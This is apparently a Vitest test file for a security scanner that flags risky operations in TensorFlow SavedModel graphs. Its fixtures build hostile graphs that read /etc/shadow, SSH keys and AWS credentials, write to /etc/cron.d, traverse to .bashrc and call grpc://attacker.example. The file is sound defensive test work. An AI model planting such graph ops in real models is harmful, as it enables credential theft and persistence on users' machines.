import { describe, expect, it } from 'vitest';
import { parseGraphDef, parseSavedModel } from '../../formats/savedmodel/parse.js';
import {
  buildGraphDef,
  buildSavedModel,
  call,
  constString,
  type FunctionSpec,
  type GraphSpec,
  type MetaGraphSpec,
  node,
  standardMetaGraph,
  TRACED_RESTORE,
  TRACED_SAVE,
} from '../../formats/savedmodel/test-support.js';
import { analyseGraph, escapesDirectory, type GraphHit, MAX_HITS_PER_OP } from './graph.js';

function hitsOf(spec: MetaGraphSpec): GraphHit[] {
  const [metaGraph] = parseSavedModel(buildSavedModel(spec)).metaGraphs;
  if (metaGraph === undefined) throw new Error('no meta graph');
  return analyseGraph(metaGraph.graph, {
    saver: metaGraph.saver,
    assets: metaGraph.assets,
    objects: metaGraph.objects,
  });
}

const graphHits = (spec: GraphSpec) => analyseGraph(parseGraphDef(buildGraphDef(spec)).graph);
const summary = (hits: readonly GraphHit[]) => hits.map((h) => `${h.kind}:${h.severity}:${h.op}@${h.node}`);

describe('analyseGraph', () => {
  it('reports nothing for a standard SavedModel: serving call, saver functions, variables', () => {
    expect(hitsOf(standardMetaGraph())).toEqual([]);
  });

  it('reports Python ops in the main graph and in functions, with the call chain and token', () => {
    const hits = hitsOf(
      standardMetaGraph([node('py', 'EagerPyFunc', ['x'], { token: { s: 'pyfunc_7' } })], {
        nodes: [node('bad', 'PyFunc', ['serving_default_x'])],
      }),
    );
    expect(summary(hits)).toEqual(['python:critical:PyFunc@bad', 'python:critical:EagerPyFunc@py']);
    expect(hits[0]?.scope).toBe('main graph');
    expect(hits[1]?.scope).toBe("function '__inference___call___21'");
    expect(hits[1]?.reachedBy).toBe(
      "reached via main graph node 'StatefulPartitionedCall' [f] → function '__inference_signature_wrapper_31' node 'StatefulPartitionedCall' [f]",
    );
    expect(hits[1]?.detail).toContain("registered as 'pyfunc_7'");
  });

  it('finds Python ops in functions reached only through nested and list function attributes', () => {
    const hidden: FunctionSpec = {
      name: 'hidden_body',
      nodes: [node('cb', 'PyFuncStateless', ['x'])],
    };
    const hits = hitsOf(
      standardMetaGraph(
        [
          node('loop', 'While', ['x'], {
            cond: { func: { name: 'cond_fn' } },
            body: { func: { name: 'map_fn', attrs: { f: { func: { name: 'hidden_body' } } } } },
          }),
          node('case', 'Case', ['i'], { branches: { funcs: [{ name: 'cond_fn' }, { name: 'also' }] } }),
        ],
        {
          functions: [
            hidden,
            { name: 'cond_fn', nodes: [] },
            { name: 'map_fn', nodes: [] },
            { name: 'also', nodes: [node('py', 'EagerPyFunc', [])] },
          ],
        },
      ),
    );
    expect(summary(hits)).toEqual(['python:critical:PyFuncStateless@cb', 'python:critical:EagerPyFunc@py']);
    expect(hits[0]?.reachedBy).toContain("node 'loop' [body.attr.f]");
    expect(hits[1]?.reachedBy).toContain("node 'case' [branches[1]]");
  });

  it('reports functions nothing calls: TensorFlow loads the whole library', () => {
    const hits = hitsOf(
      standardMetaGraph([], { functions: [{ name: 'orphan', nodes: [node('p', 'PyFunc')] }] }),
    );
    expect(summary(hits)).toEqual(['python:critical:PyFunc@p']);
    expect(hits[0]?.reachedBy).toContain('not called');
  });

  it('grades file ops by where the path comes from', () => {
    const hits = graphHits({
      nodes: [
        constString('path', '/etc/passwd'),
        node('id', 'Identity', ['path']),
        node('read', 'ReadFile', ['id:0']),
        node('p', 'Placeholder'),
        node('write', 'WriteFile', ['p', 'read']),
        constString('dir', '/etc/'),
        constString('file', 'shadow'),
        node('join', 'StringJoin', ['dir', 'file'], { separator: { s: '' } }),
        node('list', 'MatchingFiles', ['join']),
        node('reader', 'WholeFileReaderV2'),
        node('mmap', 'ImmutableConst', [], { memory_region_name: { s: '/dev/shm/weights' } }),
      ],
    });
    expect(summary(hits)).toEqual([
      'file:high:ReadFile@read',
      'file:medium:WriteFile@write',
      'file:high:MatchingFiles@list',
      'file:medium:WholeFileReaderV2@reader',
      'file:high:ImmutableConst@mmap',
    ]);
    expect(hits[0]?.detail).toBe("reads files: filename is the constant '/etc/passwd' (Const node 'path')");
    expect(hits[1]?.detail).toContain("is fed at run time (Placeholder 'p')");
    expect(hits[2]?.detail).toContain("'/etc/shadow' (Const node 'join')");
    expect(hits[4]?.detail).toContain("memory_region_name = '/dev/shm/weights'");
  });

  it('reads packed string constants, IdentityN outputs and PlaceholderWithDefault defaults', () => {
    const hits = graphHits({
      nodes: [
        node('packed', 'Const', [], { value: { tensor: ['/root/.ssh/id_rsa'], packed: true } }),
        constString('other', 'x'),
        node('idn', 'IdentityN', ['other', 'packed']),
        node('read', 'ReadFile', ['idn:1']),
        constString('default', '/tmp/out'),
        node('feedable', 'PlaceholderWithDefault', ['default']),
        node('write', 'WriteFile', ['feedable', 'read']),
      ],
    });
    expect(summary(hits)).toEqual(['file:high:ReadFile@read', 'file:high:WriteFile@write']);
    expect(hits[0]?.detail).toContain('/root/.ssh/id_rsa');
  });

  it('grades network, process and attribute-driven ops, and skips harmless attribute values', () => {
    const hits = graphHits({
      nodes: [
        constString('addr', 'grpc://attacker.example:5000'),
        node('client', 'RpcClient', ['addr', 't']),
        node('svc', 'DataServiceDatasetV4', ['id', 'mode', 'computed_addr']),
        node('computed_addr', 'StringFormat'),
        node('abort', 'Abort'),
        node('print_file', 'PrintV2', ['s'], { output_stream: { s: 'file:///tmp/leak' } }),
        node('print_err', 'PrintV2', ['s'], { output_stream: { s: 'stderr' } }),
        node('proto_file', 'DecodeProtoV2', ['b'], { descriptor_source: { s: '/tmp/desc.pb' } }),
        node('proto_local', 'DecodeProtoV2', ['b'], { descriptor_source: { s: 'local://' } }),
        node('debug', 'DebugIdentityV3', ['b'], { debug_urls: { strings: ['grpc://evil:1'] } }),
        node('debug_quiet', 'DebugIdentity', ['b'], { debug_urls: { strings: [] } }),
        constString('empty', ''),
        node('cache', 'CacheDatasetV2', ['ds', 'empty', 'c']),
      ],
    });
    expect(summary(hits)).toEqual([
      'network:high:RpcClient@client',
      'network:medium:DataServiceDatasetV4@svc',
      'system:medium:Abort@abort',
      'file:high:PrintV2@print_file',
      'file:high:DecodeProtoV2@proto_file',
      'file:high:DebugIdentityV3@debug',
    ]);
  });

  it('reports a vocabulary table only when its file is a constant, not an asset', () => {
    const hits = hitsOf({
      nodes: [
        constString('asset_path', 'vocab.txt'),
        node('init', 'InitializeTableFromTextFileV2', ['table', 'asset_path']),
        constString('fixed', '/etc/passwd'),
        node('init2', 'InitializeTableFromTextFileV2', ['table', 'fixed']),
        node('arg_fed', 'Placeholder'),
        node('init3', 'InitializeTableFromTextFileV2', ['table', 'arg_fed']),
        node('read_asset', 'ReadFile', ['asset_path']),
      ],
      assets: [{ filename: 'vocab.txt', tensorName: 'asset_path:0' }],
    });
    expect(summary(hits)).toEqual(['file:high:InitializeTableFromTextFileV2@init2']);
  });

  describe('the checkpoint saver', () => {
    it('is normal in TF2 saver functions, but not with a constant path or a path leaving the folder', () => {
      const evilSave: FunctionSpec = {
        ...TRACED_SAVE,
        nodes: [
          ...TRACED_SAVE.nodes,
          constString('where', '/etc/cron.d/x'),
          node('extra', 'SaveV2', ['where']),
        ],
      };
      const escaping: FunctionSpec = {
        ...TRACED_RESTORE,
        nodes: [
          constString('up', '/../../../home/user/.bashrc'),
          node('joined', 'StringJoin', ['file_prefix', 'up']),
          node('RestoreV2', 'RestoreV2', ['joined', 'n', 's']),
        ],
      };
      const spec = standardMetaGraph();
      const hits = hitsOf({
        ...spec,
        functions: (spec.functions ?? []).map((fn) =>
          fn.name === TRACED_SAVE.name ? evilSave : fn.name === TRACED_RESTORE.name ? escaping : fn,
        ),
      });
      // The join of the fed prefix and a constant climbing out with '..' is graded as that constant.
      expect(summary(hits)).toEqual(['file:high:SaveV2@extra', 'file:high:RestoreV2@RestoreV2']);
      expect(hits[1]?.detail).toContain(
        "computed by StringJoin node 'joined' from the constant '/../../../home/user/.bashrc'",
      );
    });

    it('is not trusted when a signature can call the saver function too', () => {
      const spec = standardMetaGraph([call('sneaky', TRACED_RESTORE.name, ['x'])]);
      const hits = hitsOf(spec);
      expect(summary(hits)).toEqual(['file:medium:RestoreV2@RestoreV2']);
      expect(hits[0]?.detail).toContain("function argument 'file_prefix'");
    });

    it('reports checkpoint ops outside the saver', () => {
      const hits = hitsOf(
        standardMetaGraph([
          constString('ckpt', '/home/user/.aws/credentials'),
          node('steal', 'RestoreV2', ['ckpt', 'n', 's']),
          node('merge', 'MergeV2Checkpoints', ['x', 'x']),
        ]),
      );
      expect(summary(hits)).toEqual(['file:high:RestoreV2@steal', 'file:medium:MergeV2Checkpoints@merge']);
    });

    it('is normal in a TF1 save/ subgraph named by the saver_def, and in a bare graph by name', () => {
      const tf1: GraphSpec = {
        nodes: [
          node('w', 'VarHandleOp'),
          constString('save/filename/input', 'model'),
          node('save/filename', 'PlaceholderWithDefault', ['save/filename/input']),
          node('save/Const', 'PlaceholderWithDefault', ['save/filename']),
          constString('save/Const_1', '_temp/part'),
          node('save/StringJoin', 'StringJoin', ['save/Const', 'save/Const_1']),
          node('save/ShardedFilename', 'ShardedFilename', ['save/StringJoin', 'shard', 'num']),
          node('save/SaveV2', 'SaveV2', ['save/ShardedFilename', 'names', 'slices', 'w']),
          node('save/MergeV2Checkpoints', 'MergeV2Checkpoints', [
            'save/ShardedFilename',
            'save/Const',
            '^save/SaveV2',
          ]),
          node('save/Identity', 'Identity', ['save/Const', '^save/MergeV2Checkpoints']),
          node('save/RestoreV2', 'RestoreV2', ['save/Const', 'names', 'slices']),
          node('save/restore_all', 'NoOp', ['^save/RestoreV2']),
        ],
      };
      const saver = {
        filenameTensor: 'save/Const:0',
        saveTensor: 'save/Identity:0',
        restoreOp: 'save/restore_all',
      };
      expect(hitsOf({ ...tf1, saver })).toEqual([]);
      expect(graphHits(tf1)).toEqual([]);
      // Not in the saver's subgraph: a restore that nothing in the saver_def depends on.
      const extra = {
        ...tf1,
        nodes: [...(tf1.nodes ?? []), node('other/RestoreV2', 'RestoreV2', ['save/Const'])],
      };
      expect(summary(hitsOf({ ...extra, saver }))).toEqual(['file:medium:RestoreV2@other/RestoreV2']);
    });
  });

  it('reports each custom op once, with how many nodes use it; library functions used as ops are not custom', () => {
    const hits = hitsOf(
      standardMetaGraph(
        [node('c1', 'SentencepieceOp'), node('c2', 'SentencepieceOp'), node('fcall', 'my_function', ['x'])],
        { nodes: [node('c3', 'SentencepieceOp')], functions: [{ name: 'my_function', nodes: [] }] },
      ),
    );
    expect(summary(hits)).toEqual(['custom:medium:SentencepieceOp@c3']);
    expect(hits[0]?.more).toBe(2);
    expect(hits[0]?.evidence).toContain('3 nodes in all');
  });

  it('treats unregistered ops named like Python calls as Python, not registered look-alikes', () => {
    expect(
      summary(
        graphHits({ nodes: [node('a', 'MyPyFunc'), node('b', 'custom_py_call'), node('c', 'CopyFunc')] }),
      ),
    ).toEqual(['python:critical:MyPyFunc@a', 'python:critical:custom_py_call@b', 'custom:medium:CopyFunc@c']);
  });

  it('caps the findings per op and counts the rest, keeping the worst severity', () => {
    const nodes = Array.from({ length: MAX_HITS_PER_OP + 5 }, (_, i) => node(`r${i}`, 'ReadFile', ['p']));
    const hits = graphHits({
      nodes: [node('p', 'Placeholder'), ...nodes, constString('c', '/x'), node('last', 'ReadFile', ['c'])],
    });
    expect(hits).toHaveLength(MAX_HITS_PER_OP);
    expect(hits[MAX_HITS_PER_OP - 1]?.more).toBe(6);
    expect(hits[MAX_HITS_PER_OP - 1]?.severity).toBe('high');
  });

  it('survives call cycles and inputs that name nothing', () => {
    const hits = graphHits({
      nodes: [call('start', 'a'), node('r', 'ReadFile', ['nowhere:3'])],
      functions: [
        { name: 'a', nodes: [call('x', 'b')] },
        { name: 'b', nodes: [call('y', 'a'), node('p', 'PyFunc')] },
      ],
    });
    expect(summary(hits)).toEqual(['file:medium:ReadFile@r', 'python:critical:PyFunc@p']);
    expect(hits[0]?.detail).toContain("names 'nowhere:3', which is not in the graph");
  });
});

describe('escapesDirectory', () => {
  it('flags absolute paths, drives, URLs and parent references only', () => {
    for (const bad of [
      '/etc/passwd',
      '..',
      '../x',
      'a/../../b',
      'C:\\x',
      'gs://bucket/x',
      '\\\\host\\share',
    ]) {
      expect(escapesDirectory(bad), bad).toBe(true);
    }
    for (const ok of ['vocab.txt', '.part', '_temp/part', 'model', 'a..b', 'dir/file']) {
      expect(escapesDirectory(ok), ok).toBe(false);
    }
  });
});
